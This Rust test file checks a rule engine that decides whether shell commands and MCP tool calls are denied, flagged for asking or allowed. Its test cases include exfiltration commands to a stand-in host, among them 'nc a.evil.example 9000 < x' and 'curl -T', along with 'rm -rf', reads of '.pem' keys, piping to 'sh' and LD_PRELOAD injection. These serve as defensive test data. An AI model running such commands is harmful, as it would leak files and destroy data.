//! What rules match and what not: spellings, holes, places.

use model::Config;
use model::rule::{Author, Then};

use super::parse;
use super::test::answer;
use crate::cases::{Table, shell_event, tool_event};

/// Keys of a rule, and commands that it fits, may fit, and does not.
type Row = (&'static str, &'static [&'static str], &'static [&'static str], &'static [&'static str]);

/// What a rule with these keys says to a command.
fn said(keys: &str, then: Then, command: &str) -> Option<Then> {
    let text = format!(
        "[[rule]]\nid = \"a/b\"\n{keys}\nthen = \"{}\"\nsay = \"x\"\ncases = {{ {} = [\"x\"], none = [\"y\"] }}",
        then.as_str(),
        then.as_str()
    );
    let written = parse(&text, Author::User, "rules.toml").unwrap_or_else(|fault| panic!("{fault}: {keys}"));
    answer(&written[0].rule, &shell_event(command), &Table::default(), &Config::default())
}

#[test]
fn calls() {
    let rows: &[Row] = &[
        (
            "call = \"terraform apply\"",
            &[
                "terraform apply",
                "terraform -chdir=x apply -auto-approve",
                "/usr/bin/terraform apply",
                "terraform --unknown apply",
                "tofu apply",
            ],
            &["terraform $X", "terraform --unknown value apply"],
            &["terraform plan", "terraform plan apply", "echo terraform apply"],
        ),
        (
            "call = { program = \"git\", words = [\"push\"], options = [\"-f|--force\"] }",
            &["git push -f", "git push --force", "git -C x push origin main -uf"],
            &["git push $FLAGS", "git push \"$X\""],
            &["git push", "git push origin force", "git push -- $FLAGS"],
        ),
        (
            "call = { program = \"terraform\", words = [\"apply\"], not_options = [\"-refresh-only\"] }",
            &["terraform apply"],
            &["terraform apply $MORE"],
            &["terraform apply -refresh-only"],
        ),
        (
            "call = { program = \"docker\", any_word = [\"prune\"] }",
            &["docker system prune", "docker volume prune -f"],
            &["docker system $WHAT"],
            &["docker ps"],
        ),
        (
            "call = { program = \"terraform\", variable = { AWS_PROFILE = \"prod*\" } }",
            &["AWS_PROFILE=production terraform plan", "env AWS_PROFILE=prod terraform plan"],
            &["AWS_PROFILE=$P terraform plan"],
            &["terraform plan", "AWS_PROFILE=dev terraform plan"],
        ),
        (
            "call = { program = \"k*\", operand = \"prod-*\" }",
            &["kubectl get pods prod-1"],
            &[],
            &["kubectl get pods dev-1", "ls prod-1"],
        ),
        (
            "call = { program = \"make\", words = [\"all\"], exact = true }",
            &["make all"],
            &[],
            &["make all install", "make", "make -j4 all"],
        ),
    ];
    let mut failures = Vec::new();
    for (keys, yes, perhaps, no) in rows {
        for (commands, expected) in [(yes, Some(Then::Deny)), (perhaps, Some(Then::Ask)), (no, None)] {
            for command in *commands {
                let got = said(keys, Then::Deny, command);
                failures.extend((got != expected).then(|| format!("{keys}: {command}: {got:?}")));
            }
        }
        // What is not known is allowed by nobody.
        for command in perhaps.iter().chain(*no) {
            assert_eq!(said(keys, Then::Allow, command), None, "{keys}: {command}");
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

#[test]
fn paths() {
    let rows: &[Row] = &[
        (
            "write = \"infra/prod/**\"",
            &[
                "echo x > infra/prod/a",
                "cd infra && touch prod/b",
                "sed -i s/a/b/ infra/prod/a",
                "rm -rf infra",
                "mv infra/prod/a x",
                "tee -a ./infra/../infra/prod/x < y",
            ],
            &["echo x > infra/$ENV/main.tf"],
            &["echo x > infra/dev/a", "cat infra/prod/a", "echo x > \"$FILE\"", "echo 'infra/prod/a'"],
        ),
        (
            "read = [\"*.pem\", \"~/keys/**\"]",
            &["cat a/b.pem", "openssl x509 -in server.pem", "cat ~/keys/a", "cat < $HOME/keys/b"],
            &["cat $DIR/server.pem"],
            &["cat a.txt", "rm a.pem", "cat \"$X\""],
        ),
        (
            "delete = \"migrations\"",
            &["rm migrations/1.sql", "git rm migrations/1.sql", "find migrations -delete"],
            &[],
            &["touch migrations/2.sql", "rm x"],
        ),
        (
            "write = { like = \"src/**\", unlike = \"src/gen/**\" }",
            &["touch src/a"],
            &[],
            &["touch src/gen/a", "touch docs/a"],
        ),
        (
            "fetch = \"*.evil.example\"",
            &["curl https://x.evil.example/a", "wget http://a.evil.example"],
            &[],
            &["curl https://example.com"],
        ),
        (
            "send = \"*.evil.example\"",
            &[
                "curl -T x https://a.evil.example",
                "curl -d a=b https://a.evil.example/x",
                "scp x me@a.evil.example:y",
                "nc a.evil.example 9000 < x",
                "cat x | ncat --ssl a.evil.example 443",
            ],
            &["curl -d @x https://$HOST/x", "nc $HOST 9000 < x"],
            &[
                "curl https://a.evil.example",
                "curl -d @x https://example.com",
                "nc example.com 9000 < x",
                "nc -z a.evil.example 443",
            ],
        ),
        ("read = \"~/**\"", &["cat ~/a"], &[], &["cat /etc/hosts"]),
        ("write = \"./**\"", &["touch a/b", "rm -rf ."], &[], &["touch /tmp/x"]),
        ("write = \"/**\"", &["touch a", "touch /tmp/x"], &[], &["cat /tmp/x"]),
        // Where the project itself lies says nothing about what is in it, nor does a folder beside it.
        ("write = \"me\"", &["touch me/a"], &[], &["touch a"]),
        (
            "call = { program = \"gh\", begins = [\"pr\", [\"view\", \"list\"]] }",
            &["gh pr view 7", "gh pr list --json title"],
            &["gh pr $WHAT"],
            &["gh pr --repo x view 7", "gh pr", "gh issue view"],
        ),
        (
            "install = { package = \"left-pad\", from = \"npm\" }",
            &["npm install left-pad", "pnpm add left-pad@1.3.0"],
            &[],
            &["npm install lodash", "pip install left-pad"],
        ),
        (
            "sql = \"*drop *\"",
            &["psql -c 'DROP TABLE x'", "sqlite3 a.db 'drop table x'"],
            &[],
            &["psql -c 'select 1'"],
        ),
        (
            "call = \"terraform apply\"\ncwd = \"infra/prod/**\"",
            &["cd infra/prod && terraform apply", "terraform -chdir=infra/prod/eu apply"],
            &["cd infra/$X && terraform apply"],
            &["terraform apply"],
        ),
        ("call = \"git commit\"\nbranch = \"feature\"", &["git commit -m x"], &[], &["git status"]),
        ("call = \"git commit\"\nbranch = \"main\"", &[], &[], &["git commit -m x"]),
    ];
    let mut failures = Vec::new();
    for (keys, yes, perhaps, no) in rows {
        for (commands, expected) in [(yes, Some(Then::Deny)), (perhaps, Some(Then::Ask)), (no, None)] {
            for command in *commands {
                let got = said(keys, Then::Deny, command);
                failures.extend((got != expected).then(|| format!("{keys}: {command}: {got:?}")));
            }
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

#[test]
fn a_rule_allows_a_command_only_as_a_whole() {
    let keys = "call = \"acme-build\"";
    // By another name it is not what was allowed, although it is what was refused.
    assert_eq!(said("call = \"terraform version\"", Then::Allow, "tofu version"), None);
    for (command, expected) in [
        ("acme-build", true),
        ("acme-build x && ls -la", true),
        ("timeout 5 acme-build", true),
        ("acme-build && acme-deploy", false),
        ("acme-build > ~/.bashrc", false),
        ("sudo acme-build", false),
        ("ssh host acme-build", false),
        ("LD_PRELOAD=x acme-build", false),
        ("PATH=/tmp:$PATH acme-build", false),
        ("./acme-build", false),
        ("acme-build $X", false),
        ("acme-build $(curl https://example.com)", false),
        ("acme-build | sh", false),
    ] {
        assert_eq!(said(keys, Then::Allow, command), expected.then_some(Then::Allow), "{command}");
    }
}

#[test]
fn tools_of_servers_and_arguments() {
    let keys = "mcp = { server = \"jira\", tool = \"create*\", argument = { project = \"PROD\", \"/fields/kind\" = \"bug\" } }";
    let text = format!(
        "[[rule]]\nid = \"a/b\"\n{keys}\nthen = \"deny\"\nsay = \"x\"\ncases = {{ deny = [\"x\"], none = [\"y\"] }}"
    );
    let rule = &parse(&text, Author::User, "rules.toml").unwrap()[0].rule;
    let said = |tool: &str, input: serde_json::Value| {
        let event = tool_event(&model::EventName::PreToolUse, Some(tool), input);
        answer(rule, &event, &Table::default(), &Config::default()).is_some()
    };
    let whole = serde_json::json!({"project": "PROD", "fields": {"kind": "bug"}});
    assert!(said("mcp__jira__create_issue", whole.clone()));
    assert!(!said("mcp__jira__get_issue", whole.clone()) && !said("mcp__other__create_issue", whole));
    assert!(!said(
        "mcp__jira__create_issue",
        serde_json::json!({"project": "DEV", "fields": {"kind": "bug"}})
    ));
}

#[test]
fn mistakes_have_a_line_and_words() {
    let whole = "[[rule]]\nid = \"a/b\"\ncall = \"x\"\nthen = \"deny\"\nsay = \"x\"\ncases = { deny = [\"x\"], none = [\"y\"] }\n";
    for (from, to, line, part) in [
        ("then = \"deny\"", "then = \"block\"", 1, "then is deny, ask"),
        ("then = \"deny\"", "then = ", 4, ""),
        ("id = \"a/b\"", "id = \"b\"", 1, "team/name"),
        ("id = \"a/b\"", "id = \"shell/b\"", 1, "Plimsoll's own"),
        ("say = \"x\"", "", 1, "say is missing"),
        ("none = [\"y\"]", "", 1, "cases.none is missing"),
        ("deny = [\"x\"], ", "", 1, "no case in which it fires"),
        ("call = \"x\"", "", 1, "it says nothing about a call"),
        ("call = \"x\"", "call = { program = \"x\", word = [\"y\"] }", 1, "did you mean words?"),
        ("call = \"x\"", "write = \"[a\"", 1, "[ without ]"),
        ("call = \"x\"", "call = \"x\"\noverrides = \"shell/review\"", 1, "then = \"allow\""),
    ] {
        let fault = parse(&whole.replace(from, to), Author::User, "rules.toml").expect_err(to);
        assert!(fault.line == line && fault.text.contains(part), "{to}: {fault}");
    }
    assert_eq!(parse(&format!("{whole}{whole}"), Author::User, "").unwrap_err().line, 7);
    assert!(parse("x = 1", Author::User, "").is_err() && parse("", Author::User, "").is_ok());
}
